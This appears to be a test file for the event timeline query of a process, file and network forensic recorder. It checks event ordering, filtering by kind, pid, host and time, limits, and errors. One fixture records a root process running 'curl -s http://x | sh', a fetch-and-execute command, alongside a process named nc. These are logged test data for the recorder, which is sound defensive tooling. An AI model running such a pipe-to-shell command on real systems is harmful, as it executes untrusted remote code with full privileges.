import assert from 'node:assert/strict';
import { test } from 'node:test';
import { TIMELINE_KINDS, timeline } from '../../src/query/index.js';
import { DIALECTS, withStore } from '../helpers/store-dialects.js';
import { addEndpoint, addEndpointState, addFile, addGap, addHost, addProcess } from './fixtures.js';

for (const dialect of DIALECTS) {
  test(`[${dialect}] the timeline lists every kind of event by time, then by ord at equal times`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      // Everything happens at t=100 except the exits; only ord tells the true order.
      const bash = await addProcess(store, {
        pid: 20,
        start: 100,
        open_ord: 1,
        end: 100,
        end_reason: 'exec',
        close_ord: 3,
        argv: ['bash', '-c', 'curl -s http://x | sh'],
        comm: 'bash',
        user: 'root',
      });
      await addProcess(store, {
        pid: 20,
        exec_index: 1,
        start: 100,
        open_ord: 3,
        end: 200,
        close_ord: 9,
        argv: ['curl', '-s', 'http://x'],
        comm: 'curl',
        ruid: 1000,
        euid: 0,
        user: 'alice',
      });
      await addFile(store, {
        process_id: bash,
        pid: 20,
        fd: 3,
        path: '/tmp/x',
        first_seen: 100,
        open_ord: 2,
        last_seen: 150,
        close_ord: 7,
      });
      const ep = await addEndpoint(store, {
        process_id: bash,
        pid: 20,
        local_ip: '10.0.0.1',
        local_port: 5555,
        remote_ip: '1.2.3.4',
        remote_port: 443,
        state: 'CLOSE_WAIT',
        first_seen: 100,
        open_ord: 4,
        last_seen: 150,
        close_ord: 8,
      });
      // ingest records the opening state too, at the opening ord
      await addEndpointState(store, { endpoint_id: ep, t: 100, state: 'SYN_SENT', ord: 4 });
      await addEndpointState(store, { endpoint_id: ep, t: 100, state: 'ESTABLISHED', ord: 5 });
      await addEndpointState(store, { endpoint_id: ep, t: 150, state: 'CLOSE_WAIT', ord: 6 });
      await addGap(store, {
        kind: 'recorder',
        seq: 4,
        t_from: 120,
        t_to: 130,
        detail: 'recorder lost events: overrun',
      });

      const events = await timeline(store);
      assert.deepEqual(
        events.map((e) => [e.time, e.kind]),
        [
          [100, 'process_start'],
          [100, 'file_open'],
          [100, 'process_exec'],
          [100, 'endpoint_open'],
          [100, 'endpoint_state'],
          [120, 'gap'],
          [150, 'endpoint_state'],
          [150, 'file_close'],
          [150, 'endpoint_close'],
          [200, 'process_exit'],
        ],
      );
      assert.deepEqual(
        events.map((e) => e.summary),
        [
          "bash -c 'curl -s http://x | sh' (uid 0 root)",
          'opened /tmp/x (fd 3)',
          'curl -s http://x (uid 1000 alice, euid 0)',
          'tcp 10.0.0.1:5555 → 1.2.3.4:443 SYN_SENT',
          'tcp 10.0.0.1:5555 → 1.2.3.4:443 ESTABLISHED',
          'gap (recorder, batch 4): recorder lost events: overrun',
          'tcp 10.0.0.1:5555 → 1.2.3.4:443 CLOSE_WAIT',
          'closed /tmp/x (fd 3)',
          'tcp 10.0.0.1:5555 → 1.2.3.4:443 closed',
          'curl exited',
        ],
      );
      assert.ok(events.every((e) => e.host === 'web' && e.host_id === 'h1'));
      const exec = events[2];
      assert.equal(exec.kind, 'process_exec');
      if (exec.kind === 'process_exec') {
        assert.deepEqual(exec.argv, ['curl', '-s', 'http://x']);
        assert.equal(exec.exec_index, 1);
      }
      const file = events[1];
      if (file.kind === 'file_open') assert.equal(file.file_kind, 'file');
      assert.equal(events[5].pid, null);
      assert.deepEqual(
        (await timeline(store, { kinds: ['process_exit', 'gap'] })).map((e) => e.kind),
        ['gap', 'process_exit'],
      );
      assert.deepEqual(
        (await timeline(store, { from: 150, to: 150 })).map((e) => e.kind),
        ['endpoint_state', 'file_close', 'endpoint_close'],
      );
      // the gap overlaps [125, 125] although it started before
      assert.deepEqual(
        (await timeline(store, { from: 125, to: 125 })).map((e) => e.kind),
        ['gap'],
      );
    }));

  test(`[${dialect}] the timeline limit keeps the first events overall, whichever table they come from`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      const p = await addProcess(store, { pid: 1, start: 10, open_ord: 10 });
      for (let i = 0; i < 5; i++) {
        await addFile(store, {
          process_id: p,
          pid: 1,
          fd: i,
          path: `/f${i}`,
          first_seen: 11 + i * 2,
          open: true,
        });
        await addEndpoint(store, {
          process_id: p,
          pid: 1,
          local_port: 1000 + i,
          first_seen: 12 + i * 2,
          open: true,
        });
      }
      const events = await timeline(store, { limit: 4 });
      assert.deepEqual(
        events.map((e) => e.time),
        [10, 11, 12, 13],
      );
      assert.equal((await timeline(store)).length, 11);
    }));

  test(`[${dialect}] the timeline can leave out the recorder, narrow to a pid or host, and refuses unknown kinds`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addHost(store, 'h2', 'db');
      const rec = await addProcess(store, { pid: 6, start: 1, observer: true });
      await addFile(store, { process_id: rec, pid: 6, path: '/spool', first_seen: 2, open: true });
      await addEndpoint(store, { process_id: rec, pid: 6, first_seen: 3, open: true });
      await addProcess(store, { pid: 7, start: 4 });
      await addProcess(store, { host_id: 'h2', pid: 8, start: 5 });
      await addGap(store, { kind: 'seq_gap', seq: 9, t_from: null, t_to: 6, detail: 'batches 5..8 missing' });
      assert.deepEqual(
        (await timeline(store, { observer: false })).map((e) => e.pid),
        [7, 8, null],
      );
      assert.deepEqual(
        (await timeline(store, { pid: 6 })).map((e) => e.kind),
        ['process_start', 'file_open', 'endpoint_open', 'gap'],
      );
      assert.deepEqual(
        (await timeline(store, { hosts: ['h2'] })).map((e) => e.pid),
        [8],
      );
      assert.deepEqual(await timeline(store, { hosts: [] }), []);
      await assert.rejects(
        timeline(store, { kinds: ['process_start', 'boot'] }),
        (e: Error & { code?: string }) => {
          assert.equal(e.code, 'POFR_USAGE');
          assert.match(e.message, /unknown event kind "boot"/);
          return true;
        },
      );
      assert.equal(TIMELINE_KINDS.length, 15);
    }));

  test(`[${dialect}] a process found gone at a keyframe shows as such; an image ended by exec is no exit`, (t) =>
    withStore(t, dialect, async (store) => {
      await addHost(store, 'h1', 'web');
      await addProcess(store, { pid: 1, start: 1, end: 5, end_reason: 'keyframe', comm: 'nc' });
      await addProcess(store, { pid: 2, start: 1, end: 6, end_reason: 'exec', comm: 'sh' });
      await addProcess(store, { pid: 2, start: 6, exec_index: 1, comm: 'python3' });
      const exits = await timeline(store, { kinds: ['process_exit'] });
      assert.deepEqual(
        exits.map((e) => e.summary),
        ['nc gone (its exit was not seen; found gone at a keyframe)'],
      );
      const [kthread] = await timeline(store, { kinds: ['process_exec'] });
      assert.equal(kthread.summary, 'python3 (uid 0 root)');
    }));
}
